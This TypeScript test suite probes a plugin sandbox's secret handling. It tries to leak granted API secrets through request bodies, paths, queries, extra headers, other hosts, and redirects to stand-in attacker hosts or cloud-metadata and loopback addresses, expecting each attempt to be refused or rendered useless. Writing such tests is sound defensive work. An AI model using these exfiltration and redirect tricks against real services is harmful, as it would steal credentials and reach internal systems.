import { expect } from 'vitest'
import type { Outcome, Probe } from './probe.ts'
import { dataOf } from '../fakes/events.ts'

/** What the operator set. Each can be told by its middle, however it is written. */
export const canaries: Readonly<Record<string, string>> = {
  HEADER: 'hdr-canary/7f3a+9c"d',
  BASIC: 'bsc-canary/51e0+77&x',
  IN_PATH: 'pth-canary/c04d+12 y',
  SIGN: 'sgn-canary/e19b+40=z',
}

const api = 'https://api.example.com'
const other = 'https://other.example.com'
const hosts = ['api.example.com', 'other.example.com']
const grants = {
  network: hosts.map((host) => ({ host, methods: ['GET', 'HEAD', 'POST'] })),
  storage: '1mb',
  secrets: [
    { name: 'HEADER', host: hosts[0]!, in: 'header' },
    { name: 'BASIC', host: hosts[0]!, in: 'basic' },
    { name: 'IN_PATH', host: hosts[0]!, in: 'path', at: '/{}' },
    { name: 'SIGN', in: 'hmac' },
    { name: 'SIGN', in: 'hmac', scheme: 'github' },
  ],
}

const isRefusal = (event: Outcome['events'][number]) =>
  (event.type === 'capability_refused' && event.data.capability === 'secrets') ||
  dataOf(event)['refused'] === true

const prelude = `
const [header, basic, path, sign] = ['HEADER', 'BASIC', 'IN_PATH', 'SIGN'].map((name) => can.secrets.ref(name))
const auth = { headers: { authorization: 'Bearer ' + header } }
const text = async (...given) => (await can.fetch(...given)).text()
`

/** Refused before a value went anywhere, and on the record. */
const refused = (name: string, attack: string): Probe => ({
  name,
  grants,
  body: `${prelude} return tried(async () => { ${attack} })`,
  expect: ({ result, events }) => {
    expect(result).toMatchObject({ ok: true, output: ['refused', expect.any(String)] })
    expect(events.filter(isRefusal)).not.toEqual([])
  },
})

/** Allowed, and of no use: what comes back holds no value (the suite looks at all of it). */
const useless = (name: string, attack: string): Probe => ({
  name,
  grants,
  body: `${prelude} return (async () => { ${attack} })()`,
  expect: ({ result }) => expect(result).toMatchObject({ ok: true }),
})

const toPlaces = (what: string, urls: readonly string[]) =>
  urls.map((url) => refused(`${what} ${url}`, `return text(${JSON.stringify(url)}, auth)`))

export const exfiltrationProbes: readonly Probe[] = [
  refused(
    'a placeholder in a body',
    `return text('${api}/echo', { method: 'POST', body: header })`,
  ),
  refused(
    'one in a JSON body beside one that is right',
    `return text('${api}/echo', { method: 'POST', ...auth, body: JSON.stringify({ key: header }) })`,
  ),
  refused('a secret of one granted host for another', `return text('${other}/echo', auth)`),
  refused('the path, for one of a header', `return text('${api}/' + header)`),
  refused('the query, for one of a header', `return text('${api}/?q=' + header)`),
  refused(
    'another header, which the host may show to others',
    `return text('${api}/echo', { headers: { 'x-note': header } })`,
  ),
  refused(
    'the right header and another one',
    `return text('${api}/echo', { headers: { authorization: 'Bearer ' + header, 'x-note': header } })`,
  ),
  refused(
    'twice in a header',
    `return text('${api}/echo', { headers: { authorization: header + header } })`,
  ),
  refused('another path', `return text('${api}/say/' + path)`),
  refused(
    'as a message, beside its own place',
    `return text('${api}/' + path + '/send?text=' + path)`,
  ),
  refused('the fragment', `return text('${api}/#' + path)`),
  refused(
    'basic authentication, for one of a header',
    `return text('${api}/echo', { headers: { authorization: 'Basic ' + btoa('u:' + header) } })`,
  ),
  refused(
    'a header, for one of basic authentication',
    `return text('${api}/echo', { headers: { 'x-key': basic } })`,
  ),
  refused('a header, for one of the path', `return text('${api}/echo', { headers: { a: path } })`),
  refused('a header, for one that signs', `return text('${api}/echo', { headers: { a: sign } })`),
  refused('the path, for one that signs', `return text('${api}/' + sign)`),
  refused(
    'a secret that nobody granted',
    `return text('${api}/echo', { headers: { a: can.secrets.ref('ISOLA_MASTER_KEY') } })`,
  ),
  refused('signing with one of a header', `return can.secrets.hmac('HEADER', 'x')`),
  refused('signing with one that nobody granted', `return can.secrets.hmac('OPENAI_API_KEY', 'x')`),
  refused(
    'checking with one of the path',
    `return can.secrets.verify('IN_PATH', 'x', '0'.repeat(64))`,
  ),
  refused(
    'a part of a reply',
    `return text('${api}/echo', { headers: { ...auth.headers, range: 'bytes=0-9' } })`,
  ),
  refused('a redirect that takes it to another host', `return text('${api}/leak', auth)`),
  refused('one that takes it there in base64', `return text('${api}/leak-base64', auth)`),
  refused('global fetch', `return (await fetch('${other}/echo', auth)).text()`),
]

/** Hosts and redirect chains, each with a secret in the request. */
export const placeProbes: readonly Probe[] = [
  ...toPlaces('a request to', [
    'https://evil.example.com/',
    'https://x:y@api.example.com/',
    'https://api.example.com@evil.example.com/',
    'https://evil.example.com\\@api.example.com/',
    'https://api.example.com:8443/',
    'https://api.example.com.evil.example/',
    'https://sub.api.example.com/',
    'http://api.example.com/',
    'https://127.0.0.1/',
    'https://[::ffff:127.0.0.1]/',
  ]),
  ...toPlaces('a redirect to', [
    `${api}/to?https://evil.example.com/`,
    `${api}/to?http://api.example.com/`,
    `${api}/to?https://api.example.com:8443/`,
    `${api}/to?https://u:p@api.example.com/`,
    `${api}/to?https://169.254.169.254/latest/meta-data/`,
    `${api}/to?https://0x7f.1/`,
    `${api}/to?//evil.example.com/`,
    `${api}/to?${other}/to?https://evil.example.com/`,
    `${api}/to?/to?/to?https://10.0.0.1/`,
    `${api}/to?data:text/plain,x`,
  ]),
]

/** A stranger's words, which a plugin hands on: no secret is filled in, and the words are no reason to refuse. */
const asItIs = (name: string, words: string): Probe => ({
  name,
  grants,
  body: `${prelude} return text('${api}/echo', { headers: { a: ${words}, authorization: 'Bearer ' + ${words} } })`,
  expect: ({ result, events }) => {
    expect(result).toMatchObject({ ok: true })
    expect(JSON.stringify(result)).toMatch(/isola-secret-HEADER-(?!ref_)/)
    expect(JSON.stringify(result)).not.toContain('[redacted]')
    expect(events.filter(isRefusal)).toEqual([])
  },
})

export const echoProbes: readonly Probe[] = [
  asItIs('a placeholder that somebody guessed', `'isola-secret-HEADER-end'`),
  asItIs('one with another nonce', `header.replace('-ref_', '-call_')`),
  useless('a redirect to a place with one that was guessed', `return text('${api}/asks', auth)`),
  useless('an echo of the headers', `return text('${api}/echo', auth)`),
  useless('an echo in headers', `return [...(await can.fetch('${api}/echo', auth)).headers]`),
  useless(
    'an echo to HEAD',
    `return [...(await can.fetch('${api}/echo', { method: 'HEAD', ...auth })).headers]`,
  ),
  useless('an echo in base64', `return text('${api}/base64', auth)`),
  useless('an echo byte by byte', `return text('${api}/bytes', auth)`),
  useless(
    'an echo that is read byte by byte',
    `
    const { body } = await can.fetch('${api}/echo', auth)
    const pieces = []
    for await (const piece of body) pieces.push(...piece)
    return String.fromCharCode(...pieces)`,
  ),
  useless('the words of a status', `return (await can.fetch('${api}/status', auth)).statusText`),
  useless('the error of a request', `return tried(() => text('${api}/throw', auth))`),
  useless('the error of a reply', `return tried(() => text('${api}/break', auth))`),
  useless('the address of a reply', `return (await can.fetch('${api}/' + path)).url`),
  useless('an echo of the path', `return text('${api}/' + path)`),
  useless(
    'an echo of basic authentication',
    `
    return text('${api}/base64', { headers: { authorization: 'Basic ' + btoa('me:' + basic) } })`,
  ),
  useless('a redirect on the same host', `return text('${api}/to?/echo', auth)`),
  useless('a redirect to another granted host', `return text('${api}/to?${other}/echo', auth)`),
  useless('another host that knows it', `return text('${other}/knows')`),
  useless(
    'two header values in one',
    `
    return text('${api}/echo', { headers: { authorization: 'Basic x, Bearer ' + header } })`,
  ),
  useless('an encoded placeholder', `return text('${api}/' + path.replaceAll('-', '%2D'))`),
  useless(
    'a placeholder in small letters',
    `
    return text('${api}/echo', { headers: { a: header.toLowerCase() } })`,
  ),
  useless(
    'the way over storage',
    `
    await can.storage.set('a', await text('${api}/echo', auth))
    return can.storage.get('a')`,
  ),
  useless('the log', `can.log(await text('${api}/echo', auth)); return 'logged'`),
  useless(
    'what lies around',
    `
    return JSON.stringify([Object.getOwnPropertyNames(globalThis), String(can.secrets.ref), header])`,
  ),
  {
    ...useless(
      'a webhook that it signs and checks',
      `
    const headers = await can.secrets.sign('SIGN', 'body')
    const checked = (body) => can.secrets.verifyRequest('SIGN', { headers, body })
    return [await checked('body'), await checked('other'), headers]`,
    ),
    expect: ({ result, events }) => {
      expect(result).toMatchObject({ ok: true, output: [true, false, expect.any(Object)] })
      expect(events.filter(({ type }) => type === 'secret_used')).toHaveLength(3)
    },
  },
  useless(
    'many signatures',
    `return Promise.all(['', 'a', 'b'].map((one) => can.secrets.hmac('SIGN', one)))`,
  ),
]
